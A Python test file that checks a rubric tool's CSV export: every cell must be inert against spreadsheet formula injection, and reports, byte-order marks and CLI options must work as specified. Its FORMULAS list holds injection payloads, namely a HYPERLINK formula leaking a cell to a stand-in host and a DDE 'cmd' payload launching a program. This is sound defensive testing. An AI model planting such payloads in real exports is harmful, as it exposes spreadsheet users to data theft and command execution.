"""CSV reports: the records as spreadsheet rows, with no cell that can become a formula."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path
from typing import Literal

import attrs
import pytest
from hypothesis import given
from hypothesis import strategies as st

from cat_rubric import Assessment, Rubric, assess, render
from cat_rubric._csv import DANGEROUS, JOIN, PREFIX, cell, unquote, write_rows
from cat_rubric._tables import CRITERION_COLUMNS, ITEM_COLUMNS
from cat_rubric.exceptions import AssessmentError, SettingsError
from tests.conftest import NGO, STATE, Run
from tests.test_hostile import HOSTILE, _hostile_evidence, _hostile_rubric

#: Text a spreadsheet would run, or that sits next to the rule's edge.
FORMULAS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''",
    "=",
]
CRITERIA_HEADER = [
    *CRITERION_COLUMNS[: CRITERION_COLUMNS.index("criterion") + 1],
    "statement",
    *CRITERION_COLUMNS[CRITERION_COLUMNS.index("criterion") + 1 :],
]


def parse(text: str) -> list[list[str]]:
    """The rows of CSV *text*, read as a spreadsheet import would (no newline translation)."""
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_inert(rows: list[list[str]]) -> None:
    for row in rows:
        for value in row:
            assert not value.startswith(DANGEROUS), value


#: Any text (the CSV module and UTF-8 take any code point but a lone surrogate), with the
#: dangerous first characters and the quote drawn often.
_TEXTS = st.one_of(
    st.text(),
    st.builds(lambda head, tail: head + tail, st.sampled_from([*DANGEROUS, PREFIX]), st.text()),
    st.sampled_from(FORMULAS),
)


class TestTheLaw:
    @given(rows=st.lists(st.lists(_TEXTS, min_size=3, max_size=3), max_size=5))
    def test_no_cell_is_a_formula_and_every_cell_reads_back(self, rows: list[list[str]]) -> None:
        """No parsed cell begins with = + - @ tab or CR; removing one ' gives the text back."""
        columns = ("a", "b", "c")
        text = write_rows(columns, [dict(zip(columns, row, strict=True)) for row in rows])
        parsed = parse(text)
        assert parsed[0] == list(columns)
        assert len(parsed) == len(rows) + 1
        assert_inert(parsed)
        assert [[unquote(v) for v in row] for row in parsed[1:]] == rows

    @given(entries=st.lists(_TEXTS, max_size=4))
    def test_a_tuple_is_one_safe_cell(self, entries: list[str]) -> None:
        """A tuple's entries are joined with '; ' into one cell, made safe as text."""
        value = cell(tuple(entries))
        assert not value.startswith(DANGEROUS)
        assert unquote(value) == JOIN.join(entries)

    def test_other_values(self) -> None:
        """None is empty; booleans true/false; numbers as numbers; dates ISO."""
        assert cell(None) == ""
        assert (cell(True), cell(False)) == ("true", "false")  # noqa: FBT003
        assert (cell(2.0), cell(7), cell(0.25)) == ("2.0", "7", "0.25")
        assert cell(dt.date(2010, 6, 30)) == "2010-06-30"
        assert cell("-1") == "'-1"  # text that looks like a number is still text

    @pytest.mark.parametrize("index", range(len(HOSTILE) + len(FORMULAS)))
    def test_hostile_rubric_and_evidence(self, index: int) -> None:
        """Hostile and formula text from rubric and evidence stays inert at both levels."""
        text = [*HOSTILE, *FORMULAS][index]
        rubric = _hostile_rubric(text)
        result = assess(rubric, _hostile_evidence(rubric, text))
        for level in ("criteria", "items"):
            parsed = parse(render.csv(result, rubric, level=level))
            assert_inert(parsed)
            assert len(parsed) == len(result.to_records(level)) + 1
        statements = [
            r[CRITERIA_HEADER.index("statement")] for r in parse(render.csv(result, rubric))
        ]
        assert all(unquote(s) == text for s in statements[1:])


class TestReport:
    def test_criteria_rows_follow_the_records(self, example: Assessment, kaz: Rubric) -> None:
        """One row per criterion of every part, the records' columns plus the statement."""
        parsed = parse(render.csv(example, kaz))
        assert parsed[0] == CRITERIA_HEADER
        records = example.to_records("criteria")
        assert len(parsed) == len(records) + 1
        for row, record in zip(parsed[1:], records, strict=True):
            got = dict(zip(CRITERIA_HEADER, row, strict=True))
            assert got["statement"] == kaz.criterion(record["criterion"]).statement
            for name, value in record.items():
                assert got[name] == cell(value), name
        disputed = [r for r in parsed[1:] if r[CRITERIA_HEADER.index("disputed")] == "true"]
        assert len(disputed) == 3

    def test_items_rows_follow_the_records(self, example: Assessment, kaz: Rubric) -> None:
        """One row per item and criterion, with the items level's columns."""
        parsed = parse(render.csv(example, kaz, level="items"))
        assert parsed[0] == list(ITEM_COLUMNS)
        records = example.to_records("items")
        assert [dict(zip(ITEM_COLUMNS, r, strict=True)) for r in parsed[1:]] == [
            {name: cell(value) for name, value in record.items()} for record in records
        ]
        flags = [r[ITEM_COLUMNS.index("illustrative")] for r in parsed[1:]]
        assert flags == [cell(u.illustrative) for u in example.items]
        assert set(flags) == {"true", "false"}  # invented items, and documented ones

    @pytest.mark.parametrize("level", ["criteria", "items"])
    def test_bom_is_one_mark_before_the_same_text(
        self, example: Assessment, kaz: Rubric, level: Literal["criteria", "items"]
    ) -> None:
        plain = render.csv(example, kaz, level=level)
        assert render.csv(example, kaz, level=level, bom=True) == "\ufeff" + plain
        assert not plain.startswith("\ufeff")

    def test_lines_end_in_crlf(self, example: Assessment, kaz: Rubric) -> None:
        """RFC 4180 line ends, and no byte-order mark."""
        text = render.csv(example, kaz)
        assert text.endswith("\r\n")
        assert text.startswith("paragraph,")
        assert text.count("\r\n") >= len(example.to_records("criteria")) + 1

    def test_an_unknown_level_is_refused(self, example: Assessment, kaz: Rubric) -> None:
        """Only criteria and items: anything else is a SettingsError naming both."""
        with pytest.raises(SettingsError, match="criteria, items"):
            render.csv(example, kaz, level="parts")  # type: ignore[arg-type]

    def test_a_criterion_missing_from_the_rubric(self, example: Assessment, kaz: Rubric) -> None:
        """A rubric of the same id that lacks one of the criteria is refused, not a KeyError."""
        rec = kaz.recommendations[0]
        part = next(p for p in rec.parts if not all(c.essential for c in p.criteria))
        dropped = next(c for c in part.criteria if not c.essential)
        shorter = attrs.evolve(part, criteria=tuple(c for c in part.criteria if c != dropped))
        parts = tuple(shorter if p is part else p for p in rec.parts)
        other = attrs.evolve(
            kaz,
            recommendations=(attrs.evolve(rec, parts=parts), *kaz.recommendations[1:]),
        )
        with pytest.raises(AssessmentError, match=dropped.id):
            render.csv(example, other)


class TestCommandLine:
    def test_report_csv(self, run: Run) -> None:
        """`report --format csv` writes the criteria rows to standard output."""
        status, out, err = run("report", "cat-kaz-co-2", STATE, NGO, "--format", "csv")
        assert status == 0, err
        parsed = parse(out)
        assert parsed[0] == CRITERIA_HEADER
        assert len(parsed) == 41
        assert_inert(parsed)

    def test_report_csv_items_to_a_file(self, run: Run, tmp_path: Path) -> None:
        """`--level items -o FILE` writes the items rows to the file, bytes as returned."""
        target = tmp_path / "items.csv"
        args = ("report", "cat-kaz-co-2", STATE, NGO, "--format", "csv", "--level", "items")
        status, out, err = run(*args, "-o", str(target))
        assert status == 0, err
        assert out == ""
        text = target.read_bytes().decode("utf-8")
        parsed = parse(text)
        assert parsed[0] == list(ITEM_COLUMNS)
        assert len(parsed) == 34
        status, again, _ = run(*args)
        assert again == text

    @pytest.mark.parametrize("option", [["--level", "items"], ["--bom"]])
    def test_csv_options_without_csv_are_a_usage_error(self, run: Run, option: list[str]) -> None:
        """--level and --bom are only for --format csv (exit 2)."""
        status, _, err = run("report", "cat-kaz-co-2", STATE, "--format", "html", *option)
        assert status == 2
        assert f"{option[0]} is for --format csv" in err

    def test_bom_for_excel_and_what_reads_it_back(self, run: Run, tmp_path: Path) -> None:
        """--bom: the same bytes after a UTF-8 byte-order mark; import-csv reads either."""
        args = ("report", "cat-kaz-co-2", STATE, NGO, "--format", "csv", "--level", "items")
        plain, marked = tmp_path / "plain.csv", tmp_path / "marked.csv"
        for target, extra in ((plain, ()), (marked, ("--bom",))):
            status, _, err = run(*args, *extra, "-o", str(target))
            assert status == 0, err
        assert marked.read_bytes() == b"\xef\xbb\xbf" + plain.read_bytes()
        assert not plain.read_bytes().startswith(b"\xef\xbb\xbf")
        header = tmp_path / "header.yaml"
        status, _, err = run("template", "cat-kaz-co-2", "-o", str(header))
        assert status == 0, err
        imported = []
        for source in (plain, marked):
            out = tmp_path / f"from-{source.name}.yaml"
            status, _, err = run(
                "import-csv", "cat-kaz-co-2", str(source), "--header", str(header), "-o", str(out)
            )
            assert status == 0, err
            # The comment at the top names the CSV it came from; the rest is the evidence.
            lines = out.read_text(encoding="utf-8").splitlines()
            imported.append([line for line in lines if not line.startswith("#")])
        assert imported[0] == imported[1]
        assert "- id: s-7a-condemnation" in imported[0]
